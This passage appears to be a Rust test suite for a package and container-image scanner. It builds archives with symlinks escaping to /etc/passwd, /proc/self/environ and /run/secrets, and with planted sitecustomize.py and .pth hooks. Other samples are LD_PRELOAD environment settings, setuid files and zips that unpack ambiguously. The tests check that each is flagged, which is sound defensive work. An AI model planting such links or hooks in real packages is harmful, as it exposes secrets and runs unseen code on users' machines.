        replace(&mut files, module_path, module);
        place.file("fn.zip", zip(&plain(&files)));
        let found = found(&place, "fn.zip");
        let row = "HOOK-PTH low site-packages/_virtualenv.pth".to_owned();
        assert_eq!(found.contains(&row), expected, "{found:?}");
    }
}

/// A tar with entries that [`tar`] does not make: links, and files with permissions.
fn tar_with(entries: &[(&str, tar::EntryType, &str, u32)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for &(name, kind, text, mode) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_mode(mode);
        if kind == tar::EntryType::Regular {
            header.set_size(text.len() as u64);
            builder
                .append_data(&mut header, name, text.as_bytes())
                .unwrap();
        } else {
            header.set_size(0);
            builder.append_link(&mut header, name, text).unwrap();
        }
    }
    builder.into_inner().unwrap()
}

#[test]
fn links_that_lead_out_are_found() {
    let place = Workplace::new();
    for (path, target, expected) in [
        ("a/link", "../../etc/passwd", Some("medium")),
        ("link", "..", Some("medium")),
        ("link", "/etc/passwd", Some("high")),
        ("link", "/proc/self/environ", Some("high")),
        ("link", "/tmp/x", Some("high")),
        ("link", "/usr/bin/python3", Some("low")),
        ("link", "/srv/shared/x", Some("medium")),
        ("link", "/opt/../etc/passwd", Some("high")),
        ("link", "//tmp/x", Some("high")),
        ("link", "/var/task/../../tmp/x", Some("high")),
        ("link", "/./proc/self/environ", Some("high")),
        ("link", "/tmpfiles/x", Some("medium")),
        ("link", "/processes", Some("medium")),
        ("link", "/proc/self/mounts", Some("low")),
        ("link", "/proc/self/fd/1", Some("low")),
        ("link", "/dev/stdout", Some("low")),
        ("link", "/run/lock", Some("low")),
        ("link", "/run/secrets/x", Some("high")),
        ("bin/python", "/home/me/.pyenv/bin/python3.12", Some("low")),
        ("bin/tool", "/home/me/python-x", Some("medium")),
        ("bin/python", "/tmp/python3", Some("high")),
        ("cabin/python", "/home/me/python3", Some("medium")),
        ("link", "/opt/lib/x", None),
        ("link", "/var/task/x", None),
        ("a/link", "../b/x", None),
        ("a/b/link", "../../c", None),
        ("x-link", "up/../etc/x", Some("medium")),
        ("x-link", "up/a/x", None),
    ] {
        let link = tar::EntryType::Symlink;
        let entries = [
            ("a/x", tar::EntryType::Regular, "x", PLAIN),
            ("up", link, ".", 0o777),
            (path, link, target, 0o777),
        ];
        place.file("fn.tar", tar_with(&entries));
        let expected: Vec<String> = expected
            .iter()
            .map(|severity| format!("HOOK-LINK {severity} {path}"))
            .collect();
        assert_eq!(found(&place, "fn.tar"), expected, "{target}");
    }
    // A hard link counts from the root.
    let hard = tar::EntryType::Link;
    let entries = [
        ("a/x", tar::EntryType::Regular, "x", PLAIN),
        ("a/b/inside", hard, "a/x", 0o777),
        ("a/b/outside", hard, "../x", 0o777),
    ];
    place.file("fn.tar", tar_with(&entries));
    assert_eq!(found(&place, "fn.tar"), ["HOOK-LINK medium a/b/outside"]);
}

#[test]
fn links_do_not_stand_for_what_was_published() {
    const SITE: &str = "lib/python3.12/site-packages/";
    let place = Workplace::new();
    let files = wheel(SITE, &[]);
    let evil = "def run():\n    return 'evil'\n";
    assert_eq!(evil.len(), CORE.len());
    let (symbolic, hard) = (tar::EntryType::Symlink, tar::EntryType::Link);
    for (name, kind, target, expected) in [
        (
            "a/core.py",
            symbolic,
            "../../../../evil.txt",
            Some("INTEGRITY-CHANGED medium"),
        ),
        (
            "a/core.py",
            hard,
            "evil.txt",
            Some("INTEGRITY-CHANGED medium"),
        ),
        (
            "a/core.py",
            symbolic,
            "../evil.txt",
            Some("INTEGRITY-CHANGED high"),
        ),
        ("a/core.py", symbolic, "../same.txt", None),
        // As uv links into its cache.
        (
            "a/core.py",
            symbolic,
            "/cache/core.py",
            Some("HOOK-LINK medium"),
        ),
        (
            "a/core.py",
            symbolic,
            "../../../../../cache/core.py",
            Some("HOOK-LINK medium"),
        ),
        (
            "a/more.py",
            symbolic,
            "../evil.txt",
            Some("INTEGRITY-UNRECORDED medium"),
        ),
        ("a/more.txt", symbolic, "../evil.txt", None),
        (
            "sitecustomize.py",
            symbolic,
            "evil.txt",
            Some("HOOK-CUSTOMIZE high"),
        ),
        (
            "sitecustomize.py",
            hard,
            "evil.txt",
            Some("HOOK-CUSTOMIZE high"),
        ),
        (
            "sitecustomize.py",
            symbolic,
            "/etc/python3.12/sitecustomize.py",
            Some("HOOK-LINK low"),
        ),
        ("b.pth", symbolic, "evil.txt", Some("HOOK-PTH medium")),
        ("b.pth", symbolic, "c.pth", None),
    ] {
        let files = files.iter().map(|(path, content)| {
            let content = std::str::from_utf8(content).unwrap();
            (path.as_str(), tar::EntryType::Regular, content, PLAIN)
        });
        let path = format!("{SITE}{name}");
        let core = std::str::from_utf8(CORE).unwrap();
        let (of_site, of_site_too) = (format!("{SITE}evil.txt"), format!("{SITE}same.txt"));
        let mut entries: Vec<_> = files.filter(|(file, ..)| *file != path).collect();
        entries.extend([
            ("evil.txt", tar::EntryType::Regular, evil, PLAIN),
            (&of_site, tar::EntryType::Regular, evil, PLAIN),
            (&of_site_too, tar::EntryType::Regular, core, PLAIN),
            (&path, kind, target, 0o777),
        ]);
        place.file("fn.tar", tar_with(&entries));
        let expected: Vec<String> = expected
            .iter()
            .map(|expected| format!("{expected} {path}"))
            .collect();
        assert_eq!(found(&place, "fn.tar"), expected, "{name} to {target}");
    }
}

#[test]
fn what_links_of_a_zip_lead_to_is_compared() {
    let place = Workplace::new();
    let store = "store/site-packages/a/core.py";
    for (target, content, expected) in [
        (store, CORE, None),
        (
            store,
            b"def run():\n    return 'evil'\n",
            Some("INTEGRITY-CHANGED high a/core.py"),
        ),
        (
            "evil.txt",
            b"def run():\n    return 'evil'\n",
            Some("INTEGRITY-CHANGED high a/core.py"),
        ),
    ] {
        let files = wheel("", &[]);
        let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
        let options = SimpleFileOptions::default();
        for (path, content) in files.iter().filter(|(path, _)| path != "a/core.py") {
            writer.start_file(path.as_str(), options).unwrap();
            writer.write_all(content).unwrap();
        }
        writer.start_file(target, options).unwrap();
        writer.write_all(content).unwrap();
        let link = format!("../{target}");
        writer.add_symlink("a/core.py", link, options).unwrap();
        place.file("fn.zip", writer.finish().unwrap().into_inner());
        let expected: Vec<&str> = expected.into_iter().collect();
        assert_eq!(found(&place, "fn.zip"), expected, "{target}");
    }
}

#[test]
fn links_to_one_place_are_one_finding() {
    let place = Workplace::new();
    let names: Vec<String> = (0..30).map(|n| format!("a/{n:02}.py")).collect();
    let links: Vec<_> = names
        .iter()
        .map(|name| {
            (
                name.as_str(),
                tar::EntryType::Symlink,
                "/tmp/cache/x.py",
                0o777,
            )
        })
        .collect();
    let file = [("b", tar::EntryType::Regular, "b", PLAIN)];
    place.file("fn.tar", tar_with(&[&file, links.as_slice()].concat()));
    assert_eq!(found(&place, "fn.tar"), ["HOOK-LINK high a/00.py"]);
    let report = report(&place, "fn.tar");
    let finding = &report["findings"][0];
    assert_eq!(finding["locations"].as_array().unwrap().len(), 20);
    let title = finding["title"].as_str().unwrap();
    assert!(
        title.ends_with("00.py → `/tmp/cache/x.py`, and 29 more"),
        "{title}"
    );
}

/// An image of one layer, as `docker save` writes it.
fn image(env: &str, layer: &[u8]) -> Vec<u8> {
    let config = format!("{}.json", "0".repeat(64));
    let manifest = format!("[{{\"Config\":\"{config}\",\"Layers\":[\"layer.tar\"]}}]");
    let settings = format!("{{\"config\":{{\"Env\":[{env}]}},\"rootfs\":{{\"type\":\"layers\"}}}}");
    tar(&[
        ("layer.tar", layer),
        (&config, settings.as_bytes()),
        ("manifest.json", manifest.as_bytes()),
    ])
}

#[test]
fn an_image_is_looked_at_as_a_container_sees_it() {
    let place = Workplace::new();
    let file = tar::EntryType::Regular;
    let layer = tar_with(&[
        ("usr/bin/su", file, "su", 0o4755),
        ("usr/bin/wall", file, "wall", 0o2755),
        ("usr/local/bin/tool", file, "tool", 0o4755),
        ("opt/extensions/agent", file, "agent", 0o755),
        ("opt/extensions/notes.md", file, "notes", 0o755),
        ("usr/lib/python3.12/sitecustomize.py", file, "", 0o644),
        (
            "usr/bin/vi",
            tar::EntryType::Symlink,
            "/etc/alternatives/vi",
            0o777,
        ),
    ]);
    let env = "\"PATH=/bin\",\"LD_PRELOAD=/x.so\",\"NODE_OPTIONS=--max-old-space-size=1\",\"PYTHONSTARTUP=/x.py\"";
    place.file("image.tar", image(env, &layer));
    let config = format!("{}.json", "0".repeat(64));
    assert_eq!(
        found(&place, "image.tar"),
        [
            "HOOK-CUSTOMIZE high layer.tar!/usr/lib/python3.12/sitecustomize.py".to_owned(),
            format!("HOOK-ENVIRONMENT medium {config}"),
            "HOOK-SETUID medium layer.tar!/usr/local/bin/tool".to_owned(),
            format!("HOOK-ENVIRONMENT low {config}"),
            "HOOK-EXTENSION info layer.tar!/opt/extensions/agent".to_owned(),
        ]
    );
}

#[test]
fn what_two_unpackers_see_differently_is_found() {
    let place = Workplace::new();
    let renamed = |mut bytes: Vec<u8>| {
        let at: Vec<usize> = (0..bytes.len())
            .filter(|&at| bytes[at..].starts_with(b"src/b.py"))
            .collect();
        for at in at {
            bytes[at + 4] = b'a';
        }
        bytes
    };
    let both = |a: &[u8], b: &[u8]| renamed(zip(&[("src/a.py", a, PLAIN), ("src/b.py", b, PLAIN)]));
    let twice = |content: &[u8]| both(b"one", content);
    place.file("twice.zip", twice(b"two"));
    assert_eq!(
        found(&place, "twice.zip"),
        ["ARTIFACT-AMBIGUOUS-NAME medium src/a.py"]
    );
    place.file("same.zip", twice(b"one"));
    assert_eq!(found(&place, "same.zip"), [""; 0]);
    // Both have one length and CRC-32.
    place.file("forged.zip", both(b"two #1234", b"one #a\t\x85\x03"));
    assert_eq!(
        found(&place, "forged.zip"),
        ["ARTIFACT-AMBIGUOUS-NAME medium src/a.py"]
    );
    let mut packed = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, method) in [
        ("src/a.py", CompressionMethod::Stored),
        ("src/b.py", CompressionMethod::Deflated),
    ] {
        let options = SimpleFileOptions::default().compression_method(method);
        packed.start_file(name, options).unwrap();
        packed.write_all(&[b'a'; 100_000]).unwrap();
    }
    let packed = packed.finish().unwrap().into_inner();
    place.file("packed.zip", renamed(packed));
    assert_eq!(found(&place, "packed.zip"), [""; 0]);

    let spelled: [File; 2] = [("src//a.py", b"one", PLAIN), ("src/a.py", b"two", PLAIN)];
    place.file("spelled.zip", zip(&spelled));
    assert_eq!(
        found(&place, "spelled.zip"),
        ["ARTIFACT-AMBIGUOUS-NAME medium src/a.py"]
    );
    let folder: [File; 2] = [("src", b"a file", PLAIN), ("src/a.py", b"one", PLAIN)];
    place.file("folder.zip", zip(&folder));
    assert_eq!(
        found(&place, "folder.zip"),
        ["ARTIFACT-AMBIGUOUS-NAME medium src"]
    );
    let honest: [File; 4] = [
        ("src", b"", PLAIN),
        ("src/a.py", b"one", PLAIN),
        ("SRC/A.py", b"two", PLAIN),
        ("META-INF/x", b"", PLAIN),
    ];
    place.file("honest.zip", zip(&honest));
    assert_eq!(found(&place, "honest.zip"), [""; 0]);

    // A second archive in front of the one that unpackers of zips see.
    let [first, second] = [b"one", b"two"].map(|text| zip(&[("src/a.py", text, PLAIN)]));
    place.file("hidden.zip", [first, second].concat());
    assert_eq!(
        found(&place, "hidden.zip"),
        ["ARTIFACT-AMBIGUOUS-HIDDEN medium "]
    );

    let mut header = zip(&[("src/a.py", b"one", PLAIN)]);
    header[30 + 4] = b'b';
    place.file("header.zip", header);
    assert_eq!(
        found(&place, "header.zip"),
        ["ARTIFACT-AMBIGUOUS-HEADER high src/a.py"]
    );

    for (second, expected) in [
        ("two", &["ARTIFACT-AMBIGUOUS-APPENDED low a.py"][..]),
        ("one", &[]),
    ] {
        let file = tar::EntryType::Regular;
        place.file(
            "fn.tar",
            tar_with(&[("a.py", file, "one", PLAIN), ("a.py", file, second, PLAIN)]),
        );
        assert_eq!(found(&place, "fn.tar"), expected);
    }
}
